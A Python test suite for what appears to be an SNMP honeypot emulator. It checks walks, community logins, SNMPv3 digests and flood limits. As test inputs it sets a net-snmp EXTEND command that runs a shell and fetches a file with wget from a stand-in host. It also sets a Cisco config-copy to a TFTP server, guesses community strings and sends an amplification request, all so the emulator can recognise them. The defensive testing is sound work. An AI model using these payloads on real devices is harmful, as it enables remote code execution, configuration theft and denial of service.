"""SNMP: communities, what is asked and set, commands and configurations, version 3's digests, and nobody flooded."""

from __future__ import annotations

import hashlib
import hmac

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.events.catalogue import ChallengeAnswered, CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols.snmp import Snmp, room
from eudaemon.protocols.snmp import messages as m
from eudaemon.protocols.snmp.mib import IP, SYSTEM, mib_of
from eudaemon.protocols.snmp.written import COPY, EXTEND, OUTPUTS, ROWS_MAX, VALUE_BYTES_MAX
from eudaemon.testing.script import START_S, Table, visit
from eudaemon.wire import ber
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"test"))
DESCRIPTION = (*SYSTEM, 1, 0)
NULL = b"\5\0"
INDEX = (1, 97)  # a row's name, `a`, with its length before it


def talk(transport: str = "tcp", host: Host = HOST) -> Table:
    return Table(Snmp(visit(host=host, transport=transport, port=161))).open()


def ask(
    kind: int, *names: m.Oid, community: bytes = b"public", version: int = 1, first: int = 0, second: int = 0,
    values: tuple[bytes, ...] = (),
) -> bytes:  # fmt: skip
    pairs = [m.varbind(name, value) for name, value in zip(names, values or (NULL,) * len(names), strict=True)]
    pdu = ber.encoded(kind, ber.number(77), ber.number(first), ber.number(second), ber.encoded(ber.SEQUENCE, *pairs))
    return ber.encoded(ber.SEQUENCE, ber.number(version), ber.encoded(ber.OCTETS, community), pdu)


def heard(answer: bytes) -> m.Pdu:
    message = m.read(answer)
    assert isinstance(message, m.Message)
    assert (message.pdu.kind, message.pdu.number) == (m.RESPONSE, ber.number(77))
    return message.pdu


@pytest.mark.parametrize("split", [0, 1])
def test_a_walk(split: int) -> None:
    table, at, seen = talk(), (1, 3), []
    while True:
        ((name, tag, value),) = heard(table.say(ask(m.GET_NEXT, at), split)).varbinds
        if tag == m.END_OF_VIEW[0]:
            break
        assert name > at
        assert heard(table.say(ask(m.GET, name), split)).varbinds == ((name, tag, value),)
        at = name
        seen.append(name)
    assert seen[0] == DESCRIPTION
    assert len(seen) > 60
    assert heard(table.say(ask(m.GET_NEXT, at, version=0))).first == m.NO_SUCH_NAME
    values = {name: heard(talk().say(ask(m.GET, name))).varbinds[0][2] for name in seen[:7]}
    assert HOST.kernel.encode() in values[DESCRIPTION]
    assert values[*SYSTEM, 5, 0] == HOST.name.encode()
    assert int.from_bytes(values[*SYSTEM, 3, 0], "big") == int(HOST.uptime_s(START_S) * 100) % 2**32
    assert LoginTried("", "public", accepted=True) in table.facts
    assert CommandEntered("getnext 1.3") in table.facts
    assert sum(isinstance(fact, CommandEntered) for fact in table.facts) == room.SAID_MAX


def test_communities() -> None:
    table = talk()
    for community in (b"cisco", b"cisco", b"private"):
        said = table.say(ask(m.GET, DESCRIPTION, community=community))
        assert bool(said) == (community == b"private")
    assert heard(table.say(ask(m.SET, DESCRIPTION, values=(ber.encoded(ber.OCTETS, b"x"),)))).first == m.NO_ACCESS
    assert [(fact.password, fact.accepted) for fact in table.facts if isinstance(fact, LoginTried)] == [
        ("cisco", False), ("private", True), ("public", False),
    ]  # fmt: skip
    assert CommandEntered("set 1.3.6.1.2.1.1.1.0 = x") in table.facts


def test_what_is_not_there() -> None:
    table = talk()
    answer = heard(table.say(ask(m.GET, DESCRIPTION, (1, 3, 9))))
    assert (answer.first, answer.varbinds[1][1]) == (0, m.NO_OBJECT[0])
    answer = heard(table.say(ask(m.GET, DESCRIPTION, (1, 3, 9), version=0)))
    assert (answer.first, answer.second) == (m.NO_SUCH_NAME, 2)
    assert table.say(ask(m.RESPONSE, DESCRIPTION)) == b""
    assert table.say(ask(m.GET_BULK, DESCRIPTION, version=0)) == b""
    bulk = heard(table.say(ask(m.GET_BULK, SYSTEM, IP, first=1, second=3)))
    assert [name[: len(SYSTEM)] for name, _, _ in bulk.varbinds] == [SYSTEM, IP, IP, IP]


def set_rows(table: Table, *rows: tuple[m.Oid, int, bytes]) -> None:
    names = tuple((*base, column, *INDEX) for base, column, _ in rows)
    table.say(ask(m.SET, *names, community=b"private", values=tuple(value for _, _, value in rows)))


@pytest.mark.parametrize("apart", [False, True])
def test_commands_that_are_set_run(apart: bool) -> None:
    table = talk()
    text = lambda value: ber.encoded(ber.OCTETS, value)  # noqa: E731
    rows = [(EXTEND, 2, text(b"/bin/sh")), (EXTEND, 3, text(b'-c "id -un; wget -q http://198.51.100.7/x"')),
            (EXTEND, 21, ber.number(4))]  # fmt: skip
    for group in ([row] for row in rows) if apart else [rows]:
        set_rows(table, *group)
    line = "id -un; wget -q http://198.51.100.7/x"
    assert ExploitRecognised("net-snmp-extend", "T1569", f'/bin/sh -c "{line}"') in table.facts
    assert CommandEntered(line) in table.facts
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    table.answer("ok", b"\x7fELF")
    shown = heard(table.say(ask(m.GET, (*OUTPUTS, 1, *INDEX)))).varbinds[0]
    assert shown[2] == b"root"
    assert heard(table.say(ask(m.GET_NEXT, OUTPUTS))).varbinds == (shown,)
    table.end()
    assert not table.fault


def test_configurations_that_are_copied() -> None:
    server = ber.encoded(m.ADDRESS, b"\xc6\x33\x64\x07")
    file = ber.encoded(ber.OCTETS, b"pwned-confg")
    for source, wished in ((1, ["tftp://198.51.100.7/pwned-confg"]), (4, [])):
        table = talk()
        set_rows(table, (COPY, 2, ber.number(1)), (COPY, 3, ber.number(source)), (COPY, 5, server), (COPY, 6, file))
        assert not table.wishes, "a row acts when it is made active"
        set_rows(table, (COPY, 14, ber.number(1)))
        assert [wish.download.url for wish in table.wishes] == wished
        assert ExploitRecognised("cisco-config-copy", "T1602.002", "tftp://198.51.100.7/pwned-confg") in table.facts
        if wished:
            table.answer("missing")


def secured(engine: bytes, user: bytes = b"", digest: bytes = b"", flags: int = m.REPORTABLE) -> bytes:
    security = ber.encoded(ber.SEQUENCE, ber.encoded(ber.OCTETS, engine), ber.number(0), ber.number(0),
                           *(ber.encoded(ber.OCTETS, one) for one in (user, digest, b"")))  # fmt: skip
    pdu = ber.encoded(m.GET, ber.number(5), ber.number(0), ber.number(0), ber.encoded(ber.SEQUENCE))
    scoped = ber.encoded(ber.SEQUENCE, ber.encoded(ber.OCTETS, engine), ber.encoded(ber.OCTETS), pdu)
    header = ber.encoded(ber.SEQUENCE, ber.number(9), ber.number(65_507), ber.encoded(ber.OCTETS, bytes((flags,))),
                         ber.number(3))  # fmt: skip
    return ber.encoded(ber.SEQUENCE, ber.number(3), header, ber.encoded(ber.OCTETS, security), scoped)


def test_version_three() -> None:
    table, engine = talk(), mib_of(HOST).engine
    first = m.read(table.say(secured(b"")))
    assert isinstance(first, m.Secured)
    assert (first.number, first.engine) == (9, engine)
    assert first.pdu
    assert first.pdu.varbinds[0][0][-2:] == (4, 0)  # usmStatsUnknownEngineIDs
    key = hashlib.md5(b"root" * 262_144, usedforsecurity=False).digest()  # RFC 3414 appendix A.2.1
    key = hashlib.md5(key + engine + key, usedforsecurity=False).digest()
    flags = m.REPORTABLE | m.AUTHENTICATED
    digest = hmac.digest(key, secured(engine, b"root", bytes(12), flags), "md5")[:12]
    report = m.read(table.say(secured(engine, b"root", digest, flags)))
    assert isinstance(report, m.Secured)
    (answered,) = [fact for fact in table.facts if isinstance(fact, ChallengeAnswered)]
    assert (answered.user, answered.scheme) == ("root", "snmp")
    _, _, kind, _, whole, shown_engine, shown = answered.response.split("$")
    assert (kind, bytes.fromhex(shown_engine)) == ("0", engine)
    assert hmac.digest(key, bytes.fromhex(whole), "md5")[:12].hex() == shown
    table.say(secured(engine, b"initial"))
    assert LoginTried("initial", None, accepted=False) in table.facts
    assert table.say(secured(engine, flags=0)) == b"", "who wants no report gets none"


def test_what_is_paid_for_with_asking_again() -> None:
    table = talk("udp")
    question = ask(m.GET, DESCRIPTION)
    assert heard(table.say(question)).varbinds == ((DESCRIPTION, ber.OCTETS, b""),)
    answers = [table.say(ask(m.GET_NEXT, SYSTEM)) for _ in range(8)]
    assert answers[0] == b""
    assert heard(next(filter(None, answers))).varbinds[0][2].startswith(b"Linux ")
    table = talk("udp")
    assert table.say(ask(m.GET_BULK, SYSTEM, second=2250)) == b""
    assert ExploitRecognised("snmp-amplification", "T1498.002", "2250 repetitions") in table.facts


SAID = st.sampled_from([
    ask(m.GET, DESCRIPTION), ask(m.GET_BULK, SYSTEM, second=99), ask(m.GET_NEXT, SYSTEM), secured(b""),
    ask(m.GET, *(DESCRIPTION,) * 9), ask(m.GET, (*SYSTEM, 3, 0), version=0), ask(m.INFORM, DESCRIPTION),
])  # fmt: skip


@given(st.lists(st.binary(max_size=80) | SAID, max_size=9))
def test_no_datagram_is_answered_with_a_larger_one(datagrams: list[bytes]) -> None:
    table = talk("udp")
    for said in range(len(datagrams)):
        table.say(datagrams[said])
        assert len(table.sent) <= sum(map(len, datagrams[: said + 1]))


@pytest.mark.parametrize(
    "data",
    [b"\x30\0", b"\x30\3\2\1\1", ask(m.GET, DESCRIPTION, version=2), ask(m.REPORT + 1, DESCRIPTION), b"\x31\3\2\1\0",
     ask(m.GET, *((1, 3),) * (m.VARBINDS_MAX + 1))],
)  # fmt: skip
def test_what_is_no_message(data: bytes) -> None:
    table = talk()
    table.say(data)
    assert table.fault


def test_limits() -> None:
    table = talk()
    table.say(ask(m.GET, *((1, 3),) * m.VARBINDS_MAX))
    assert not table.fault
    many = ask(m.GET_BULK, SYSTEM, second=10_000)
    assert len(heard(table.say(many)).varbinds) == room.ROWS_MAX
    table = talk()
    for number in range(ROWS_MAX):
        table.say(ask(m.SET, (*EXTEND, 2, number), community=b"private", values=(ber.encoded(ber.OCTETS, b"id"),)))
    assert not table.fault
    table.say(ask(m.SET, (*EXTEND, 2, ROWS_MAX), community=b"private", values=(ber.encoded(ber.OCTETS, b"id"),)))
    assert "rows" in table.fault
    for size, is_fault in ((VALUE_BYTES_MAX // 2, False), (room.MESSAGE_BYTES_MAX, True)):
        table = talk()
        table.say(ask(m.SET, (*EXTEND, 2, 1), community=b"private", values=(ber.encoded(ber.OCTETS, bytes(size)),)))
        assert bool(table.fault) == is_fault
    table = talk()
    for _ in range(room.MESSAGES_MAX):
        table.say(ask(m.TRAP2))
    assert not table.fault
    table.say(ask(m.TRAP2))
    assert "messages" in table.fault
    table = talk()
    for number in range(room.COMMUNITIES_MAX + 1):
        table.say(ask(m.GET, community=b"%d" % number))
    assert len([fact for fact in table.facts if isinstance(fact, LoginTried)]) == room.COMMUNITIES_MAX


def test_whose_conversation_it_is() -> None:
    for said in (ask(m.GET, DESCRIPTION), secured(b""), ask(m.GET, *((1, 3),) * 20), ask(m.GET, *((1, 3),) * 60)):
        claims = [Snmp.claim(said[:size]) for size in range(1, 12)]
        assert claims == sorted(claims)
        assert claims[-1] == 2
    assert Snmp.claim(b"\x30\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0") == 0
